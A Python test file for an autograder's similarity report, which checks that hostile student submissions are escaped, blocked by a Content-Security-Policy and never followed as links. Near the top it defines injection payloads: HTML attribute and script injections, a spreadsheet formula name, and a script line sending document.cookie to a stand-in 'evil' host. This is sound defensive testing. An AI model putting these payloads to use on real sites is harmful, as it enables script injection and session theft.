"""Hostile submissions meet the similarity report: they are notes or inert text, never markup, and cheap.

A small class (the instructor solution and the second implementation) joined by students who try what a
page of student code invites: a folder name made of HTML, a name a spreadsheet would run, code that
closes the page's tags and opens a script, a 5 MB answer cell, a folder that is a link to a classmate's,
a notebook that is a link, a FIFO, and a notebook that is not JSON.
"""
import html
import os
import time
from html.parser import HTMLParser

import pytest

import corpus
import similarity_class as sc
from autograder.similarity import answers, report_page

HTML_NAME = '"><img src=x onerror=alert(1)>'
FORMULA_NAME = '=HYPERLINK("http:evil","x")'
SCRIPT_CODE = '''\
    # </code></pre></figure><script>alert(1)</script><!--
    out = np.zeros(3)  # <img src=x onerror=alert(2)> ]]> </style><style>body{display:none}</style>
    s = "</script><script>fetch('http://evil/' + document.cookie)</script>"
'''
TAGS = {"html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "h3", "section", "p", "ul", "li",
        "code", "table", "thead", "tbody", "tr", "th", "td", "meter", "a", "div", "figure", "figcaption", "pre", "mark"}
ATTRIBUTES = {"charset", "http-equiv", "content", "name", "lang", "class", "id", "href", "min", "max", "value",
              "aria-labelledby", "tabindex"}      # tabindex: a scrolling code box reachable by keyboard


class Markup(HTMLParser):
    """Every tag and attribute of a page, and the text inside its ``<style>``."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.hrefs, self.styles, self._in_style = set(), set(), [], [], False

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.hrefs += [value for name, value in attrs if name == "href"]
        self._in_style = tag == "style"

    def handle_data(self, data):
        if self._in_style:
            self.styles.append(data)
            self._in_style = False


def filled_with(code):
    return {**{part: sc.SOLUTIONS[part] for part in sc.FOUR},
            "conv_forward_naive": sc.filled("conv_forward_naive", code)}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    course = corpus.make_course(tmp_path_factory.mktemp("similarity-hostile") / "course", corpus.REPO)
    corpus.write_submission(course, "instructor", "numpy_cnn", sc.INDEPENDENT["instructor"])
    corpus.write_submission(course, "second", "numpy_cnn", sc.INDEPENDENT["second"])
    corpus.write_submission(course, HTML_NAME, "numpy_cnn", filled_with(SCRIPT_CODE))
    corpus.write_submission(course, FORMULA_NAME, "numpy_cnn", sc.INDEPENDENT["instructor"])
    corpus.write_submission(course, "huge", "numpy_cnn", filled_with("    a = np.zeros(3)\n" * 250_000))
    corpus.write_submission(course, "odd\tname", "numpy_cnn", sc.INDEPENDENT["instructor"])
    submitted = course / "submitted"
    (submitted / "linked").mkdir()
    os.symlink(submitted / "instructor" / "numpy_cnn", submitted / "linked" / "numpy_cnn")
    folder = corpus.write_submission(course, "odd_files", "numpy_cnn", sc.INDEPENDENT["second"])
    (folder / "convolution.ipynb").unlink()
    os.symlink(submitted / "instructor" / "numpy_cnn" / "convolution.ipynb", folder / "convolution.ipynb")
    (folder / "max_pooling.ipynb").unlink()
    os.mkfifo(folder / "max_pooling.ipynb")
    (folder / "convnet.ipynb").write_bytes(b'{"cells": [ not json')
    started = time.monotonic()
    status, report = sc.run_similarity(course)
    return {"status": status, "seconds": time.monotonic() - started, "folder": report,
            "page": (report / "report.html").read_text(encoding="utf-8"), "rows": sc.read_pairs(report)}


def test_no_student_byte_becomes_a_tag_an_attribute_or_a_link(hostile):
    assert hostile["status"] == 0
    markup = Markup()
    markup.feed(hostile["page"])
    assert markup.tags <= TAGS, markup.tags - TAGS
    assert markup.attributes <= ATTRIBUTES, markup.attributes - ATTRIBUTES
    assert all(href == "#ranking" or href.startswith("#pair-") for href in markup.hrefs)
    assert markup.styles == [report_page.CSS]              # the one stylesheet is the page's own
    assert html.escape(HTML_NAME, quote=True) in hostile["page"]
    assert "&lt;/script&gt;&lt;script&gt;fetch(" in hostile["page"]
    assert "<script" not in hostile["page"].lower()


def test_the_page_forbids_scripts_fetches_frames_and_forms_and_allows_only_its_own_style(hostile):
    import base64
    import hashlib
    head = hostile["page"][:hostile["page"].index("<style>")]
    digest = base64.b64encode(hashlib.sha256(report_page.CSS.encode()).digest()).decode()
    assert (f'<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
            f"style-src 'sha256-{digest}'; img-src 'none'; base-uri 'none'; form-action 'none'\">") in head


def test_a_name_a_spreadsheet_would_run_is_written_as_text_in_the_csv(hostile):
    names = {row["student_a"] for row in hostile["rows"]} | {row["student_b"] for row in hostile["rows"]}
    assert "'" + FORMULA_NAME in names and FORMULA_NAME not in names


def test_a_5_mb_answer_cell_is_cut_to_the_bound_and_costs_seconds(hostile):
    assert hostile["seconds"] < 60
    note = f"conv_forward_naive: only the first {answers.MAX_PART_CHARS:,} characters of the student's own code were compared"
    assert f"huge: {note}" in html.unescape(hostile["page"])
    assert len(hostile["page"]) < 2_000_000


def test_links_fifos_and_unreadable_notebooks_are_named_and_never_followed(hostile):
    text = html.unescape(hostile["page"])
    assert ("linked: convolution.ipynb was not read: the submitted folder is a symbolic link or not a regular "
            "folder; the grader reads only regular files") in text
    assert ("odd_files: convolution.ipynb was not read: the submitted file is a symbolic link or not a regular "
            "file; the grader reads only regular files") in text
    assert "odd_files: max_pooling.ipynb was not read: the submitted file is a symbolic link" in text
    assert "odd_files: convnet.ipynb: not a readable Jupyter notebook (not JSON of nbformat 4)" in text
    assert "odd\tname: convolution.ipynb was not read: the submitted folder has an odd name" in text
    assert "No code of their own to compare: linked, odd\tname, odd_files." in text
    # The link to the instructor's folder was not followed: linked shares nothing with the instructor.
    row = next(row for row in hostile["rows"] if {row["student_a"], row["student_b"]} == {"instructor", "linked"})
    assert float(row["score"]) == 0.0


def test_the_release_lines_of_a_hostile_cell_are_left_out_like_everyone_elses(hostile):
    row = next(row for row in hostile["rows"] if {row["student_a"], row["student_b"]} == {"instructor", "second"})
    assert 0 < float(row["score"]) < 0.65
